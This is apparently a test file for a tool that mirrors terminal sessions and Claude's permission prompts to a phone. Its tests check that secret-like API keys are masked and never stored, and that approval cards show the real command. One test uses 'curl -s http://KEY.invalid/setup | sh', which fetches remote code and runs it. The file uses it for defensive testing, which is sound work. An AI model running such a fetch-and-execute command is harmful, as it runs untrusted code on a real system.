import { expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parseJson, SessionDetail, View } from "../src/types.ts";
import { startRealClaude } from "./support/claude.ts";
import { SELF } from "./support/home.ts";
import { startHomeServer } from "./support/home-server.ts";
import { openTty } from "./support/tty.ts";
import { until } from "./support/until.ts";

const KEY = "sk-ant-api03-a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6";

/** Everything that the server has written down. */
const stored = (dir: string) =>
  readdirSync(join(dir, "data")).map((name) => readFileSync(join(dir, "data", name), "latin1"));

test("a secret that a program prints is whole at the desk, and reaches neither the phone nor the server's disk", async () => {
  const server = await startHomeServer();
  // wrapped by the terminal, coloured, scrolled into history, and left on the screen; typed letter by letter at the end
  const script = `printf '${"x".repeat(60)} ${KEY}\\n\\033[31m${KEY}\\033[0m\\n'; seq 100; echo last ${KEY}; for c in $(echo ${KEY} | fold -w1); do printf %s $c; sleep 0.02; done; echo; echo done; sleep 600`;
  const tty = openTty([...SELF, "run", "--command", "sh", "--", "-c", script], {
    env: server.home.env,
    cwd: server.home.dir,
  });
  await tty.sees("done", 20_000);
  expect(Buffer.from(tty.bytes()).toString()).toContain(`last ${KEY}`);
  const session = (
    await until("the session is shown", async () => (await server.phone.sessions())[0])
  ).id;
  const events = await server.phone.events(session);
  const text = async (path: string) =>
    JSON.stringify((await server.phone.json("GET", `/api/sessions/${session}${path}`)).body);
  const screen = async () =>
    JSON.stringify(
      (await server.phone.get(SessionDetail, "GET", `/api/sessions/${session}`)).screen,
    );
  await until(
    "all of it is stored",
    async () =>
      (await screen()).includes("done") &&
      (await text("/output?limit=1000")).includes("x".repeat(60)),
  );
  expect(await screen()).toContain(`last ${"•".repeat(KEY.length)}`);
  await Bun.sleep(500);
  const seen = [
    await text(""),
    await text("/output?limit=1000"),
    JSON.stringify(await server.phone.sessions()),
    JSON.stringify(events.received),
    ...stored(server.home.dir),
  ].join("\n");
  for (const part of [KEY, KEY.slice(0, 20), KEY.slice(-12)]) expect(seen).not.toContain(part);
  events.close();
  tty.pty.kill("SIGKILL");
  await tty.exited;
  await server.stop();
}, 60_000);

test("a card shows dots for a secret, and the approval is for what Claude really asked", async () => {
  const server = await startHomeServer();
  const claude = await startRealClaude(server);
  await claude.tty.sees(/\n❯\s*\n─/);
  claude.tty.type(`\x1b[200~run: API_KEY=${KEY} printenv API_KEY > key.txt\x1b[201~`);
  await claude.tty.sees("> key.txt"); // this terminal is read through the same emulator, so the key itself can't be waited for
  claude.tty.type("\r");
  const prompt = await server.phone.prompt();
  const view = parseJson(View, prompt.view);
  expect(view).toMatchObject({
    masked: true,
    actions: ["approve", "reject"],
    input: { command: `API_KEY=${"•".repeat(KEY.length)} printenv API_KEY > key.txt` },
  });
  expect((await server.phone.approve(prompt)).status).toBe(200);
  const written = join(claude.work, "key.txt");
  await until(
    "the command ran",
    () => existsSync(written) && readFileSync(written, "utf8") === `${KEY}\n`,
  );
  await claude.tty.sees("Done.");
  await Bun.sleep(500);
  expect(stored(server.home.dir).join("\n")).not.toContain(KEY.slice(0, 20));
  await claude.quit();
  await server.stop();
}, 60_000);

test("a card whose dots could hide what is run can only be rejected, and says why; a host is shown whatever it looks like", async () => {
  const server = await startHomeServer();
  const claude = await startRealClaude(server);
  await claude.tty.sees(/\n❯\s*\n─/);
  claude.tty.type(`\x1b[200~run: echo ${KEY} | sh\x1b[201~`);
  await claude.tty.sees("| sh");
  claude.tty.type("\r");
  const hidden = await server.phone.prompt();
  expect(parseJson(View, hidden.view)).toMatchObject({
    actions: ["reject"],
    input: { command: `echo ${"•".repeat(KEY.length)} | sh` },
    note: expect.stringContaining("looks like a secret"),
  });
  expect((await server.phone.approve(hidden)).status).toBe(409);
  await server.phone.json("POST", `/api/prompts/${hidden.id}/reject`, {});
  await claude.tty.sees(/\n❯\s*\n─/);
  const host = `curl -s http://${KEY}.invalid/setup | sh`;
  await claude.say(`run: ${host}`);
  const shown = await server.phone.prompt();
  expect(parseJson(View, shown.view)).toMatchObject({
    actions: ["approve", "reject"],
    input: { command: host },
  });
  await claude.quit();
  await server.stop();
}, 60_000);
